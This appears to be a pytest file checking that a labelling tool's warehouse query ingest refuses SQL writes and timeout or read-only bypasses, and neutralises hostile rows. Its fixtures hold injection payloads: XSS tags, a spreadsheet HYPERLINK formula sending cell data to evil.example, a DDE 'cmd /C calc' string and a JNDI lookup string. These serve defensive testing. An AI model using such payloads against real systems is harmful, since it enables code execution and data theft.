"""A hostile or mistaken warehouse query (issue 19): a query that tries to write is refused (by `DECLARE ... CURSOR`,
which takes one read-only statement, or by the READ ONLY transaction for a write hidden in a function) and the
database is unchanged; one that tries to lift the time limit or the read-only mode cannot; rows holding markup,
formulas and runaway quotes go where the same rows from a file go, and the quarantine CSV cannot run them."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import psycopg
import pytest
from warehouse_data import owned_database

from smo_labelstudio.core.spec import load_spec
from smo_labelstudio.core.workspace import Workspace
from smo_labelstudio.ingest import launch
from smo_labelstudio.ingest.items import prepare
from smo_labelstudio.ingest.launch import _append_quarantine
from smo_labelstudio.ingest.query import Query, QueryError, open_query
from smo_labelstudio.ingest.sources import read_rows

REPO = Path(__file__).resolve().parents[2]
WRITES = [
    ("insert into items values ('x', 'y', 'en')", 'syntax error at or near "insert"'),
    ("drop table items", 'syntax error at or near "drop"'),
    ("with gone as (delete from items returning *) select * from gone", "must not contain data-modifying statements"),
    ("select 1; drop table items", "cannot insert multiple commands into a prepared statement"),
    ("select 1; commit; drop table items", "cannot insert multiple commands into a prepared statement"),
    ("select smo_sneaky_write()", "must only read, and PostgreSQL refused it: cannot execute INSERT in a read-only"),
    ("select nextval('items_seq')", "must only read, and PostgreSQL refused it: cannot execute nextval()"),
    ("select set_config('transaction_read_only', 'off', true)", "read-write mode must be set before any query"),
    ("select * from items for update", "must only read, and PostgreSQL refused it"),
]
HOSTILE = [
    ("h1", "<script>alert(1)</script><img src=x onerror=alert(2)>", "en"),
    ("h2", '=HYPERLINK("http://evil.example/?"&A1, "click")', "en"),
    ("h3", "+cmd|' /C calc'!A0", "en"),
    ("h4", 'a quote " that never closes, en\nc9,"looks like a row",en', "en"),
    ("h5", '"""', "en"),
    ("h6", "=1+1", "zz-not-a-language"),  # quarantined: its raw cell starts with a formula too
    ("h7", "-@SUM(A1:A9)" + "\x07", "en"),  # quarantined: a control character
    ("h8", "{{ config.__class__ }} ${jndi:ldap://x}", "en"),
]


@pytest.fixture(scope="module")
def warehouse():
    with owned_database("smo_adv_query") as url:
        with psycopg.connect(url, autocommit=True) as conn:
            conn.execute("create table items (id text primary key, text text, language text)")
            conn.execute("create sequence items_seq")
            conn.execute(
                "create function smo_sneaky_write() returns int language plpgsql as "
                "$$ begin insert into items values ('sneaky', 'written', 'en'); return 1; end $$"
            )
            with conn.cursor().copy("copy items from stdin") as copy:
                for row in HOSTILE:
                    copy.write_row(row)
        yield url


def _state(url: str) -> tuple:
    with psycopg.connect(url, autocommit=True) as conn:
        rows = conn.execute("select * from items order by id").fetchall()
        seq = conn.execute("select last_value, is_called from items_seq").fetchone()
    return rows, seq


@pytest.mark.parametrize("sql, words", WRITES, ids=[w[0][:40] for w in WRITES])
def test_a_query_that_tries_to_write_is_refused_in_one_line_and_nothing_changes(warehouse, tmp_path, sql, words):
    """Through the launch itself: refused before any project is created (the Label Studio URL answers nothing)."""
    before = _state(warehouse)
    spec = load_spec(REPO / "specs" / "example.yaml")
    with pytest.raises(QueryError) as caught:
        launch.plan_launch(spec, Query(sql, warehouse), "http://127.0.0.1:9", "no-token", home=tmp_path)
    assert words in str(caught.value) and "\n" not in str(caught.value)
    assert _state(warehouse) == before
    assert not Workspace.for_title(spec.title, tmp_path).project_file.exists()


def test_a_query_cannot_lift_its_time_limit(warehouse):
    """`set_config('statement_timeout', '0')` in the first pass does not carry into the next statement: the limit is
    set again before every fetch, and the pass stops at SMO_SOURCE_TIMEOUT."""
    sql = (
        "select set_config('statement_timeout', '0', true) as t, pg_sleep(0.3) as s "
        "from generate_series(1, 20) union all select 'x', pg_sleep(30)"
    )
    with open_query(Query(sql, warehouse, timeout=1.5, chunk=1)) as source:
        with pytest.raises(QueryError, match="ran over SMO_SOURCE_TIMEOUT=1.5 s"):
            source.digest()


def test_hostile_rows_from_a_query_go_where_the_same_rows_from_a_file_go(warehouse, tmp_path):
    spec = load_spec(REPO / "specs" / "example.yaml")
    with open_query(Query("select id, text, language from items where id like 'h%'", warehouse)) as source:
        source.digest()
        queried = prepare(source, spec.columns, True, False, file=source.name, key=b"k" * 32, header=source.header)
    jsonl = tmp_path / "same.jsonl"
    jsonl.write_text("".join(json.dumps(dict(zip(("id", "text", "language"), r))) + "\n" for r in HOSTILE))
    filed = prepare(read_rows(jsonl), spec.columns, True, False, file=str(jsonl), key=b"k" * 32)
    assert queried.items.equals(filed.items) and queried.duplicates.equals(filed.duplicates)
    assert list(queried.quarantine["reason"]) == list(filed.quarantine["reason"])
    assert sorted(queried.items["external_id"]) == ["h1", "h2", "h3", "h4", "h5", "h8"]
    texts = queried.items.set_index("external_id")["text"]
    assert [texts[i] for i in ("h1", "h4", "h5")] == [HOSTILE[0][1], HOSTILE[3][1], HOSTILE[4][1]]  # the very text
    ws = Workspace(tmp_path / "ws")
    ws.root.mkdir()
    _append_quarantine(ws, queried.quarantine, "plan1")
    with open(ws.quarantine, newline="", encoding="utf-8") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]  # a spreadsheet runs none of them
    assert any(c.startswith("'=1+1") or '"text": "=1+1"' in c for c in cells)
